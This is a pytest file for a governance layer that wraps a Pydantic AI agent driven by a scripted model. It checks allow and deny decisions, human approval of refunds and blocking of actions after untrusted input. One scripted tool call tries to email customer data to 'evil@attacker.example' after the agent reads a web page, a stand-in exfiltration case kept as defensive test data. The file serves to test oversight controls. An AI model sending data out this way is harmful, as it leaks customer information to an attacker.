"""ClearanceCapability in Pydantic AI's real agent loop with a scripted ``FunctionModel``.

``FunctionModel`` is Pydantic AI's own model for tests: the function below answers each
model request with a scripted response (tool calls, then text). The agent graph, argument
validation, the ``wrap_tool_execute`` hook and the deferred-tool approval flow are the
framework's.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic_ai import Agent, AgentRunResult, DeferredToolRequests
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo, FunctionModel

from clearance._internal.gate.core import Gate
from clearance.integrations.pydantic_ai import ClearanceCapability

from .framework_support import (
    APPROVER,
    TASK,
    ToolEffects,
    decisions,
    executed,
    governed_gate,
    traces,
)


class Script:
    """A scripted model: each request gets the next response; remembers what it was shown."""

    def __init__(self, *responses: ModelResponse) -> None:
        self.responses = list(responses)
        self.seen: list[list[ModelMessage]] = []

    def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        self.seen.append(list(messages))
        return self.responses.pop(0)

    def tool_returns(self) -> dict[str, str]:
        """Tool name -> the last result the model was shown for it."""
        return {
            part.tool_name: str(part.content)
            for message in self.seen[-1]
            for part in getattr(message, "parts", ())
            if isinstance(part, ToolReturnPart)
        }


def calls(*calls: tuple[str, dict[str, Any]]) -> ModelResponse:
    return ModelResponse(
        parts=[
            ToolCallPart(name, args, tool_call_id=f"call-{name}-{i}")
            for i, (name, args) in enumerate(calls)
        ]
    )


DONE = ModelResponse(parts=[TextPart("done")])


class Effects(ToolEffects):
    """The scenario's tools on a Pydantic AI agent."""

    def agent(
        self, script: Script, capability: ClearanceCapability
    ) -> Agent[None, str | DeferredToolRequests]:
        agent: Agent[None, str | DeferredToolRequests] = Agent(
            FunctionModel(script),
            output_type=[str, DeferredToolRequests],
            capabilities=[capability],
        )
        for function in self.functions():
            agent.tool_plain(function)
        return agent


Governed = Agent[None, str | DeferredToolRequests]


def run(agent: Governed, prompt: str) -> AgentRunResult[str | DeferredToolRequests]:
    """One agent run on a fresh event loop (what ``run_sync`` does, but closing its loop)."""
    return asyncio.run(agent.run(prompt))


def resume(
    agent: Governed, capability: ClearanceCapability, interrupted: AgentRunResult[Any]
) -> AgentRunResult[str | DeferredToolRequests]:
    """Continue ``interrupted`` with clearance's approval outcomes."""

    async def go() -> AgentRunResult[str | DeferredToolRequests]:
        results = await capability.resolve(interrupted.output)
        return await agent.run(
            message_history=interrupted.all_messages(), deferred_tool_results=results
        )

    return asyncio.run(go())


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[Gate]:
    yield from governed_gate(tmp_path)


def test_an_allowed_tool_runs_governed_in_a_trace_whose_mandate_is_the_prompt(
    gate: Gate,
) -> None:
    effects, script = Effects(), Script(calls(("lookup_order", {"order_id": 42})), DONE)
    result = run(effects.agent(script, ClearanceCapability(gate)), TASK)

    assert result.output == "done"
    assert effects.ran == [("lookup_order", {"order_id": 42})]
    assert script.tool_returns()["lookup_order"] == "order 42: arrived broken"
    assert decisions(gate) == [("lookup_order", "allow")]
    assert len(executed(gate)) == 1
    assert [t["mandate"]["text"] for t in traces(gate)] == [TASK]


def test_a_denied_tool_is_skipped_and_the_model_reads_the_reasons(gate: Gate) -> None:
    effects = Effects()
    script = Script(calls(("delete_records", {"table": "orders"})), DONE)
    run(effects.agent(script, ClearanceCapability(gate)), TASK)

    assert effects.ran == []
    assert decisions(gate) == [("delete_records", "deny")]
    assert executed(gate) == []
    assert "no-deletes: Agents never delete records" in script.tool_returns()["delete_records"]


def test_an_untrusted_page_taints_the_trace_and_blocks_a_later_mail(gate: Gate) -> None:
    effects = Effects()
    script = Script(
        calls(("fetch_page", {"url": "https://shop.example/faq"})),
        calls(("send_email", {"to": "evil@attacker.example", "body": "customers"})),
        DONE,
    )
    run(effects.agent(script, ClearanceCapability(gate)), TASK)

    assert [name for name, _ in effects.ran] == ["fetch_page"]
    assert decisions(gate) == [("fetch_page", "allow"), ("send_email", "deny")]
    assert "no-mail-after-untrusted-input" in script.tool_returns()["send_email"]


def test_approval_defers_the_call_and_a_clearance_approval_runs_it_once(gate: Gate) -> None:
    effects = Effects()
    script = Script(calls(("refund", {"order_id": 42, "amount": 30.0})), DONE)
    capability = ClearanceCapability(gate)
    agent = effects.agent(script, capability)
    first = run(agent, TASK)

    assert isinstance(first.output, DeferredToolRequests)
    [deferred] = first.output.approvals
    approval_id = first.output.metadata[deferred.tool_call_id]["clearance_approval_id"]
    assert effects.ran == []
    assert decisions(gate) == [("refund", "approval_required")]

    # Still pending: resolving defers the call again, and it does not run.
    again = resume(agent, capability, first)
    assert isinstance(again.output, DeferredToolRequests)
    assert effects.ran == []

    gate.approve(approval_id, approver=APPROVER, reason="photo of the broken item")
    result = resume(agent, capability, again)

    assert result.output == "done"
    assert effects.ran == [("refund", {"order_id": 42, "amount": 30.0})]
    assert len(executed(gate)) == 1
    assert gate.approval(approval_id).status == "collected"
    assert len(traces(gate)) == 1  # the continued conversation stays in its trace


def test_a_denied_approval_is_returned_to_the_model_as_a_denial(gate: Gate) -> None:
    effects = Effects()
    script = Script(calls(("refund", {"order_id": 42, "amount": 30.0})), DONE)
    capability = ClearanceCapability(gate)
    agent = effects.agent(script, capability)
    first = run(agent, TASK)
    assert isinstance(first.output, DeferredToolRequests)
    [pending] = gate.approvals("pending")

    gate.deny(pending.approval_id, approver=APPROVER, reason="no photo")
    result = resume(agent, capability, first)

    assert result.output == "done"
    assert effects.ran == []
    assert executed(gate) == []
    assert "is denied; it did not run" in script.tool_returns()["refund"]
